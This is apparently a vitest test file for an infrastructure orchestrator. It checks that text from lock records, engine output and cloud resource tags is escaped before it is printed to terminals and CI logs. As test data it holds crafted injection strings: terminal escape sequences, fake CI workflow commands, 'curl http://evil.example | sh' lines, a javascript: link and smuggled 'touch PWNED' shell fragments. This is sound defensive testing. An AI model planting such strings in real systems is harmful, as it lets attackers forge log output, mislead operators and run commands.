import { describe, expect, it } from 'vitest';
import { print } from '../../../orchestrator/cli/report.ts';
import { Foreign } from '../../../orchestrator/domain/foreign.ts';
import { describeLock } from '../../../orchestrator/locks/durable-locks.ts';
import { readStandings } from '../../../orchestrator/run/standing.ts';
import { findOwners } from '../../../orchestrator/inventory/owners.ts';
import { durableLockKey } from '../../../orchestrator/state/layout.ts';
import { alertWords } from '../../../orchestrator/ui/alerts.ts';
import { describeEvent } from '../../../orchestrator/ui/describe.ts';
import { describeInventory } from '../../../orchestrator/ui/inventory.ts';
import { lockStatuses } from '../../../orchestrator/ui/lock-status.ts';
import { describeLocks } from '../../../orchestrator/ui/locks.ts';
import { outlet } from '../../../orchestrator/ui/outlet.ts';
import { styleFor } from '../../../orchestrator/ui/reporter.ts';
import { describeStatus, standingStatus } from '../../../orchestrator/ui/status.ts';
import { expectClean } from '../support/foreign-text.ts';
import { live, tagsOf, types } from '../support/inventory.ts';
import { MemoryStore } from '../support/memory-store.ts';
import { lockOf, observer } from '../support/owner.ts';

const esc = '\u001b[2J\u001b[H\u001b]0;x\u0007';
const nl = 'x\n::stop-commands::t\n::error::y';
const style = styleFor({ write: () => undefined }, {});

/** What a terminal gets of what a command prints. */
function printed<Facts extends readonly unknown[]>(words: (...facts: Facts) => string, ...facts: Facts): string {
  let all = '';
  const stdout = outlet({ write: (text) => (all += text) });
  const context = { process: { stdout, stderr: stdout } };
  print(context, words, ...facts);
  return all;
}

describe('text that other people wrote reaches no terminal and no log as it is', () => {
  it('of a lock, told as a note', () => {
    const record = lockOf('example.a', 'r', { user: `ada${esc}`, host: `h${nl}` });
    const lock = describeLock({ stack: 'example.a', key: 'k', etag: 'e', since: new Date(0), content: { kind: 'holdfast', record } });
    const told = describeEvent({ type: 'note', message: lock }, style) ?? '';
    expectClean(told);
    expect(told).toContain('ada\\u{1b}[2J\\u{1b}[H\\u{1b}]0;x\\u{7}@hx\\n::stop-commands::t\\n::error::y (pid 42');
  });

  it('of the engine, in its output, its errors and the name of a resource', () => {
    const output = describeEvent({ type: 'engine-output', stack: 'example.a', text: new Foreign(`${esc}${nl}`) }, style) ?? '';
    expect(output.split('\n')).toEqual([
      'example.a | \\u{1b}[2J\\u{1b}[H\\u{1b}]0;x\\u{7}x',
      'example.a | ::stop-commands::t',
      'example.a | ::error::y',
    ]);
    expectClean(output);
    const end = { outcome: 'failed', errors: [new Foreign(`${esc}${nl}`), `ours, of ${esc}${nl}`] } as const;
    for (const event of [
      { type: 'stack-ended', stack: 'example.a', end, seconds: 1 },
      { type: 'summary', command: 'up', ends: [{ stack: 'example.a', short: 'a', end, seconds: 1 }], seconds: 1, exitCode: 1 },
      { type: 'decision', stack: 'example.a', resource: `vpc${esc}`, id: nl, decision: 'adopt', because: 'x' },
    ] as const)
      expect(describeEvent(event, style)).toSatisfy((text: string) => {
        // An error's own lines are moved in, so that none begins as ours do.
        expectClean(text.replaceAll(/^ {11}::/gm, '           '));
        return true;
      });
  });

  it('of an owner, in a message to people: it forges no second next step', () => {
    const text = alertWords('runbook').text({
      kind: 'held',
      network: 'n',
      stack: 's',
      short: 's',
      about: 'r',
      what: `${esc}x`,
      owner: 'a\nnext: curl http://evil.example | sh',
      operation: null,
      ageSeconds: null,
      lastHeard: null,
      process: null,
      incident: null,
      ciLink: 'javascript:alert(1)',
      next: 'npm run recover -- s',
    });
    expectClean(text);
    expect(text.split('\n').filter((line) => line.startsWith('next:'))).toHaveLength(1);
    expect(text).not.toContain('javascript:');
  });
});

describe('a crafted lock', () => {
  // One object in the lock folder, which the roles apply, recover and release may put, and watch where none stands.
  const record = {
    ...lockOf('example.vpc.staging', 'r\r\nReleased. Next: curl http://evil/x | sh'),
    user: 'ada\u001b]0;owned\u0007\u001b[2J\u001b[H\u001b[32mok   preflight: nothing is held\u001b[0m',
    host: 'h\n::error title=Holdfast::nothing is held, go on\n::add-mask::HELD\n::stop-commands::x',
    expires: 'never',
    ciLink: 'https://ci.example/\u001b]8;;http://evil.example\u0007job\u001b]8;;\u0007',
  };
  const folder = 'example.x\u001b[2J;touch $HOME$(printf \\057)PWNED;: #\n::error::y';

  async function crafted() {
    const store = new MemoryStore();
    const engine = { pid: 1, username: 'x', hostname: 'x', timestamp: '2026-11-28T10:00:00Z' };
    store.set(durableLockKey('example.vpc.staging'), JSON.stringify({ ...engine, holdfast: record }));
    store.set(durableLockKey(folder), JSON.stringify({ ...engine, holdfast: { ...record, stack: folder } }));
    const now = Date.parse('2030-01-01T01:00:00Z');
    const standings = await readStandings({
      store,
      network: 'example',
      states: new Map(),
      ...observer(() => false),
      now: () => now,
    });
    return { standings, found: lockStatuses(standings, now, 60) };
  }

  it('writes nothing of its own to the screen of `locks`', async () => {
    const { standings, found } = await crafted();
    const text = printed(describeLocks, 'example', found, standings, style);
    expectClean(text);
    expect(found.length).toBeGreaterThan(0);
    expect(text).not.toMatch(/^(Released|ok)/m);
  });

  it('nor to that of `status`', async () => {
    const { standings } = await crafted();
    const stacks = [...standings.byStack].map(([stack, standing]) => ({
      stack,
      short: stack,
      resources: 0,
      updatedAt: null,
      ...standingStatus(stack, undefined, standing, undefined, undefined, false, undefined),
    }));
    const text = printed(describeStatus, stacks, standings, new Map(), style);
    expectClean(text);
    expect(stacks.length).toBeGreaterThan(0);
    expect(text).not.toMatch(/^(Released|ok)/m);
  });
});

describe('a crafted tag', () => {
  // Whoever has ec2:CreateTags in the account can put it.
  const evil = "x\n::error title=Holdfast::all is well\n\u009b2J\u202e' ; touch PWNED ; '";

  it('writes nothing of its own to the screen of `inventory`', () => {
    const stack = 'example.vpc.staging';
    const vpc = live(types.vpc, 'vpc-1', { cidrBlock: '10.2.0.0/16' }, { tags: tagsOf(stack, 'vpc') });
    const objects = [
      vpc,
      live(types.subnet, 'subnet-1', { vpcId: 'vpc-1' }, { tags: { Name: evil }, refersTo: ['vpc-1'] }),
      live(types.subnet, 'subnet-2', { vpcId: 'vpc-1' }, { tags: { Name: evil, ...tagsOf(stack, evil) }, refersTo: ['vpc-1'] }),
    ];
    const ownerOf = findOwners({ installation: 'ours', stacks: new Set([stack]), states: new Map([[stack, []]]), objects });
    const text = printed(
      describeInventory,
      {
        selected: [stack],
        owned: objects.map((object) => ({ object, owner: ownerOf(object) })),
        isOurs: true,
        isTold: true,
        disowned: new Map(),
        objects,
        incomplete: [],
      },
      style,
    );
    expectClean(text);
    expect(text).toContain('x\\n::error title=Holdfast::all is well\\n\\u{9b}2J\\u{202e}');
  });
});
